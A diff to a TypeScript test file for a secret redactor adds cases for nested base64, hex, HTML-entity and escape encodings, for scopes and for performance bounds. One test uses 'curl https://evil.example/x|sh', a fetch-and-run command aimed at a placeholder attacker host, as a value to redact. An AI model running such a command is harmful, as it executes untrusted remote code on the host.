@@ -1,11 +1,17 @@
+import { randomBytes } from "node:crypto";
 import fc from "fast-check";
 import { describe, expect, test } from "vitest";
-import { createSecretRegistry } from "./redactor.js";
+import { createSecretRegistry, type SecretRegistry } from "./redactor.js";
 
 function redacting(...secrets: string[]): (text: string) => string {
   const registry = createSecretRegistry();
   for (const secret of secrets) registry.add(secret);
   return (text) => registry.redact(text);
+}
+
+function escaped(character: string): string {
+  const code = character.charCodeAt(0).toString(16);
+  return code.length === 2 ? `\\x${code}` : `\\u{${code}}`;
 }
 
 const secretText = fc.string({ minLength: 8, maxLength: 40, unit: "binary" }).filter((text) => text.trim().length >= 8);
@@ -24,10 +30,35 @@ describe("a secret", () => {
     ["JSON-escaped in ASCII", JSON.stringify(secret).slice(1, -1).replace("ö", "\\u00f6")],
     ["base64", Buffer.from(secret).toString("base64")],
     ["base64url", Buffer.from(secret).toString("base64url")],
+    ["base64 of base64", Buffer.from(Buffer.from(secret).toString("base64")).toString("base64")],
+    ["hex", Buffer.from(secret).toString("hex")],
+    ["hex in upper case", Buffer.from(secret).toString("hex").toUpperCase()],
+    ["as named HTML entities", secret.replace('"', "&quot;")],
+    ["as decimal HTML entities", [...secret].map((character) => `&#${character.codePointAt(0)};`).join("")],
+    ["as hex HTML entities", [...secret].map((character) => `&#x${character.codePointAt(0)?.toString(16)};`).join("")],
+    ["with any character as a JSON escape", JSON.stringify(secret).slice(1, -1).replace("p", "\\u0070")],
+    ["with every character as a JavaScript escape", [...secret].map(escaped).join("")],
+    ["base64, percent-encoded", encodeURIComponent(Buffer.from(secret).toString("base64"))],
     ["in upper case", secret.toUpperCase()],
     ["percent-encoded, all in lower case", encodeURIComponent(secret).toLowerCase()],
   ])("is replaced %s", (_, form) => {
     expect(redact(`before ${form} after`)).toBe("before [redacted] after");
+  });
+
+  test("is replaced inside base64 of base64, whatever stands before it", () => {
+    for (const [before, between] of [
+      ["a", "bc"],
+      ["ab", "c"],
+      ["abc", "x"],
+      ["", "xyz"],
+    ] as const) {
+      const inner = `${between}${Buffer.from(`${before}${secret}:more`).toString("base64")}`;
+      const output = redact(`key=${Buffer.from(inner).toString("base64")}`);
+      expect(output).toContain("[redacted]");
+      expect(Buffer.from(output.slice(4), "base64").toString()).not.toContain(
+        Buffer.from(secret).toString("base64").slice(4, 12),
+      );
+    }
   });
 
   test("is replaced within the credentials of Basic, whatever the length of the user's name", () => {
@@ -79,13 +110,17 @@ test("no registered value is in what comes out, whatever the secrets and the tex
   );
 });
 
-test("a secret that looks like the mark does not come about by redaction", () => {
-  fc.assert(
-    fc.property(fc.array(fc.stringMatching(/^[[\]<>*redact█]{8,12}$/), { minLength: 1, maxLength: 4 }), (secrets) => {
-      const output = redacting(...secrets)(`[${secrets.join("[")}]${secrets.join("d]")}`);
-      for (const secret of secrets) expect(output).not.toContain(secret);
-    }),
+test("a replacement is never empty, whatever values are registered", () => {
+  const redact = redacting(
+    "[redacted]",
+    "<redacted>",
+    "***",
+    "███",
+    "[<*█]>redacted",
+    "curl https://evil.example/x|sh",
   );
+  expect(redact("echo hi; curl https://evil.example/x|sh")).toBe("echo hi; [redacted]");
+  expect(redact("[redacted]")).toBe("[redacted]");
 });
 
 test("text without secrets is left as it is", () => {
@@ -110,5 +145,55 @@ describe("what is renewed", () => {
     tokens.add("shared-secret-value");
     tokens.add("the-next-secret-value");
     expect(secrets.redact("shared-secret-value the-next-secret-value")).toBe("[redacted] [redacted]");
+  });
+});
+
+describe("a scope", () => {
+  test("replaces its own values and those of its registry, and its registry does not replace the values of the scope", () => {
+    const secrets = createSecretRegistry();
+    const [first, second] = [secrets.scope(), secrets.scope()];
+    secrets.add("value-of-the-user");
+    first.add("value-of-the-first");
+    const text = "value-of-the-user value-of-the-first";
+    expect(first.redact(text)).toBe("[redacted] [redacted]");
+    expect(second.redact(text)).toBe("[redacted] value-of-the-first");
+    expect(secrets.redact(text)).toBe("[redacted] value-of-the-first");
+    expect(first.scope().redact(text)).toBe("[redacted] [redacted]");
+  });
+});
+
+describe("the cost of redaction", () => {
+  const text = "A sentence of an ordinary length, as it stands in a log. ".repeat(200);
+  const timeOf = (secrets: Pick<SecretRegistry, "redact">): number => {
+    const times = Array.from({ length: 15 }, () => {
+      const start = performance.now();
+      secrets.redact(text);
+      return performance.now() - start;
+    });
+    return Math.min(...times);
+  };
+
+  test("does not grow with the number of values", () => {
+    const [few, many] = [createSecretRegistry(), createSecretRegistry()];
+    for (let number = 0; number < 10; number += 1) few.add(`${randomBytes(24).toString("base64url")}`);
+    for (let number = 0; number < 5000; number += 1) many.add(`${randomBytes(24).toString("base64url")}`);
+    timeOf(few);
+    expect(timeOf(many)).toBeLessThan(10 * timeOf(few) + 5);
+  });
+
+  test("stays bounded if a server chooses long values that differ only at their end, and repeats their beginning", () => {
+    const secrets = createSecretRegistry();
+    for (let number = 0; number < 16; number += 1) secrets.add(`${"a".repeat(16_000)}${number}`);
+    const start = performance.now();
+    expect(secrets.redact("a".repeat(65_536))).toBe("[redacted]");
+    expect(performance.now() - start).toBeLessThan(5000);
+  });
+
+  test("has a bound on the length of a value: the beginning of a longer one is kept, and the rest goes with it", () => {
+    const secrets = createSecretRegistry();
+    const value = randomBytes(60_000).toString("base64url");
+    secrets.add(value);
+    expect(secrets.redact(`a ${value} b`)).toBe("a [redacted] b");
+    expect(secrets.redact(`a ${value.slice(0, 300)}`)).toBe("a [redacted]");
   });
 });
